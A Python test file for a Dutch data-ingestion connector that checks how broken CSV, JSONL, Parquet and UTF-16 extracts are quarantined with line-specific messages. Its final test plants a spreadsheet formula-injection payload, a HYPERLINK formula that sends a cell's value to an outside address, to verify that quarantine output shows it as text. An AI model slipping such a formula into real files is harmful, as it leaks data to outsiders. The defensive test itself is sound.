"""Issues 11.2 and 11.3: broken structure, encodings and cut files get a Dutch message
with file, line and what to fix, and every delivered row is accounted for."""

from __future__ import annotations

import polars as pl
import pytest

from tests.extracts import ROWS, write_extract
from vik.connectors.config import SourceConfig
from vik.connectors.ingest import Extracts, ingest_source, write_quarantine


def _meldingen(n: int) -> list[dict]:
    row = ROWS["meldingen"][0]
    return [{**row, "melding_id": f"M-{i}", "adres": f"Kerkstraat {i + 1}"} for i in range(n)]


def _lines(tmp_path, source: str = "meldingen") -> list[str]:
    return (tmp_path / f"{source}.csv").read_text(encoding="utf-8").splitlines()


def _write_lines(tmp_path, lines: list[str], source: str = "meldingen", end: str = "\n") -> None:
    (tmp_path / f"{source}.csv").write_text("\n".join(lines) + end, encoding="utf-8")


def _adds_up(result) -> None:
    summary = result.summary
    assert summary.rows_read == summary.rows_accepted + summary.rows_quarantined
    assert summary.rows_accepted == result.frame.height
    assert summary.rows_quarantined == result.quarantine.height


def test_an_unbalanced_quote_near_the_end_loses_no_row(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(6))
    lines = _lines(tmp_path)
    # Line 5 (the 4th row) opens a quote it never closes: a reader would swallow
    # lines 6 and 7 into one value.
    lines[4] = lines[4].replace("Kerkstraat 4", '"Kerkstraat 4')
    _write_lines(tmp_path, lines)
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    assert result.summary.status == "ok"
    _adds_up(result)
    assert result.summary.rows_read == 6
    assert sorted(result.frame["row_number"].to_list()) == [2, 3, 4, 6, 7]
    assert result.frame["melding_id"].to_list() == ["M-0", "M-1", "M-2", "M-4", "M-5"]
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 5
    assert "regel 5" in bad["redenen"] and "aanhalingsteken" in bad["redenen"]
    (reason,) = result.summary.reasons  # counted as one kind of reason, line left out
    assert reason.startswith("regel … heeft een aanhalingsteken")


def test_row_numbers_are_the_files_line_numbers_also_after_a_quoted_line_break(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(4))
    lines = _lines(tmp_path)
    lines[2] = lines[2].replace("Kerkstraat 2", '"Kerkstraat 2\nachterom"')  # lines 3 and 4
    lines[3] = lines[3].replace("2026-11-01", "2026-13-01")  # line 5: an impossible date
    _write_lines(tmp_path, lines)
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    _adds_up(result)
    assert result.summary.rows_read == 4
    assert result.frame["row_number"].to_list() == [2, 3, 6]
    assert result.quarantine["rij"].to_list() == [5]
    assert result.frame["adres"][1] == "Kerkstraat 2\nachterom"


def test_a_field_above_the_csv_readers_limit_gives_a_message_not_a_traceback(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(3))
    lines = _lines(tmp_path)
    lines[2] = lines[2].replace("Kerkstraat 2", '"' + "x" * 200_000 + '"')
    _write_lines(tmp_path, lines)
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    assert result.summary.status == "ok"
    _adds_up(result)
    assert result.frame["melding_id"].to_list() == ["M-0", "M-2"]
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 3 and "regel 3" in bad["redenen"]


def test_a_long_field_is_quarantined_by_the_configured_limit(tmp_path, key):
    rows = _meldingen(3)
    rows[1]["adres"] = "Kerkstraat " + "9" * 500
    write_extract(tmp_path, "meldingen", rows)
    result = ingest_source("meldingen", tmp_path, SourceConfig(max_field_chars=200), key)
    _adds_up(result)
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 3
    assert "adres: waarde van 511 tekens, langer dan de grens van 200" in bad["redenen"]


def test_a_header_repeated_inside_the_file_is_quarantined_as_such(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(2))
    first = tmp_path / "first.csv"
    write_extract(tmp_path, "meldingen", _meldingen(3)[2:], name=first.name)
    (tmp_path / "meldingen.csv").write_text(
        (tmp_path / "meldingen.csv").read_text() + first.read_text(), encoding="utf-8"
    )
    first.unlink()
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    _adds_up(result)
    assert result.frame["melding_id"].to_list() == ["M-0", "M-1", "M-2"]
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 4 and "herhaalt de kopregel" in bad["redenen"]


@pytest.mark.parametrize(
    "content",
    [
        b'melding_id,bron,datum,categorie,adres\n"M-1,mma,2026-11-01,drugs,Kerkstraat 1\n',
        b"melding_id,bron,datum,categorie,adres\nM-1,mma,2026-11-01,drugs\x00,Kerkstraat 1\n",
        b'melding_id,bron,datum,categorie,adres\nM-1,mma,2026-11-01,drugs,"Kerk""straat 1\n',
        b"melding_id,bron,datum,categorie,adres\r\nM-1,mma\r\n\r\n,,,,\n\x1f\x1e,x\n",
        b'"melding_id,bron\n',
        b"melding_id;bron;datum;categorie;adres\nM-1;mma;2026-11-01;drugs;'a\"b\n",
        b"\xff\xfem\x00e\x00l\x00",  # UTF-16 cut in the middle of a character
    ],
)
def test_broken_structure_never_escapes_as_a_traceback(tmp_path, key, content):
    (tmp_path / "meldingen.csv").write_bytes(content)
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key, accept_shrink=True)
    if result.summary.status == "gestopt":
        assert "meldingen" in result.summary.error
    else:
        _adds_up(result)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_utf16_files_are_read(tmp_path, key, encoding, fmt):
    rows = [{**ROWS["brp"][0], "geslachtsnaam": "Brontë", "voornamen": "Zoë René"}]
    write_extract(tmp_path, "brp", rows, fmt=fmt)
    path = tmp_path / f"brp.{fmt}"
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    result = ingest_source("brp", tmp_path, SourceConfig(), key)
    assert result.summary.status == "ok", result.summary.error
    assert result.summary.encoding.startswith("utf-16")
    assert result.frame["geslachtsnaam"].to_list() == ["Brontë"]


def test_an_unreadable_utf16_file_is_refused_saying_utf16(tmp_path, key):
    write_extract(tmp_path, "brp", ROWS["brp"])
    path = tmp_path / "brp.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16")[:-1])  # odd length
    result = ingest_source("brp", tmp_path, SourceConfig(), key)
    assert result.summary.status == "gestopt"
    assert "UTF-16" in result.summary.error and "brp.csv" in result.summary.error


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_a_nul_byte_is_quarantined_not_stored(tmp_path, key, fmt):
    rows = _meldingen(3)
    rows[0]["categorie"] = "dru\x00gs"  # in the first 4 KiB: not a reason to call it binary
    write_extract(tmp_path, "meldingen", rows, fmt=fmt)
    extracts = Extracts([ingest_source("meldingen", tmp_path, SourceConfig(), key)])
    result = extracts["meldingen"]
    assert result.summary.status == "ok", result.summary.error
    _adds_up(result)
    assert result.frame["melding_id"].to_list() == ["M-1", "M-2"]
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == (2 if fmt == "csv" else 1)  # a CSV header is line 1
    assert "categorie: bevat een NUL-teken" in bad["redenen"]
    written = write_quarantine(extracts, tmp_path / "q")["meldingen"]
    assert b"\x00" not in written.read_bytes()
    assert "dru\\0gs" in written.read_text()


def test_a_last_line_cut_inside_a_value_is_reported(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(12))
    lines = _lines(tmp_path)
    lines[-1] = lines[-1].removesuffix("traat 12")  # "…,Kerks": the transfer stopped here
    _write_lines(tmp_path, lines, end="")
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    _adds_up(result)
    assert result.frame.height == 11
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 13
    assert "de laatste" in bad["redenen"] and "afgebroken" in bad["redenen"]


def test_a_last_line_without_line_end_is_fine_when_it_is_whole(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(12))
    _write_lines(tmp_path, _lines(tmp_path), end="")
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    assert result.frame.height == 12 and result.quarantine.height == 0


def test_a_cut_last_json_line_is_reported(tmp_path, key):
    write_extract(tmp_path, "meldingen", _meldingen(3), fmt="jsonl")
    path = tmp_path / "meldingen.jsonl"
    path.write_text(path.read_text().rstrip("\n")[:-12], encoding="utf-8")
    result = ingest_source("meldingen", tmp_path, SourceConfig(), key)
    _adds_up(result)
    (bad,) = result.quarantine.iter_rows(named=True)
    assert bad["rij"] == 3 and "afgebroken" in bad["redenen"]


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
@pytest.mark.parametrize(
    "value",
    [pl.Series("voornamen", [{"roepnaam": "Ayşe"}] * 2), pl.Series("voornamen", [["Ayşe"]] * 2)],
    ids=["struct", "list"],
)
def test_a_nested_column_where_text_is_expected_is_an_error_naming_it(tmp_path, key, fmt, value):
    frame = pl.DataFrame(
        [{k: v for k, v in r.items() if k != "voornamen"} for r in ROWS["brp"]]
    ).with_columns(value)
    path = tmp_path / f"brp.{fmt}"
    frame.write_parquet(path) if fmt == "parquet" else frame.write_ndjson(path)
    result = ingest_source("brp", tmp_path, SourceConfig(), key)
    assert result.summary.status == "gestopt"
    assert "kolom 'voornamen'" in result.summary.error
    assert "verwacht" in result.summary.error


def test_a_list_column_where_the_contract_wants_a_list_is_read(tmp_path, key):
    frame = pl.DataFrame(ROWS["bag"]).with_columns(
        pl.Series("gebruiksdoel", [["woonfunctie"], ["woonfunctie", "winkelfunctie"]])
    )
    frame.write_parquet(tmp_path / "bag.parquet")
    result = ingest_source("bag", tmp_path, SourceConfig(), key)
    assert result.summary.status == "ok", result.summary.error
    assert result.frame["gebruiksdoel"].to_list()[1] == ["woonfunctie", "winkelfunctie"]


def test_a_quarantine_file_opens_in_a_spreadsheet_as_text_not_formulas(tmp_path, key):
    # A quarantined row is what a clerk typed, unchecked: opened in a spreadsheet, a cell
    # starting with "=" would run (=HYPERLINK sending the address elsewhere).
    rows = _meldingen(3)
    rows[1]["datum"] = "gisteren"
    rows[1]["adres"] = '=HYPERLINK("http://example.org/?"&A1;"klik")'
    write_extract(tmp_path, "meldingen", rows)
    extracts = Extracts([ingest_source("meldingen", tmp_path, SourceConfig(), key)])
    assert extracts["meldingen"].summary.rows_quarantined == 1
    written = write_quarantine(extracts, tmp_path / "q")["meldingen"]
    (row,) = pl.read_csv(written, infer_schema=False).iter_rows(named=True)
    assert row["adres"] == "'" + rows[1]["adres"]  # shown as text, still readable
    assert written.stat().st_mode & 0o777 == 0o600
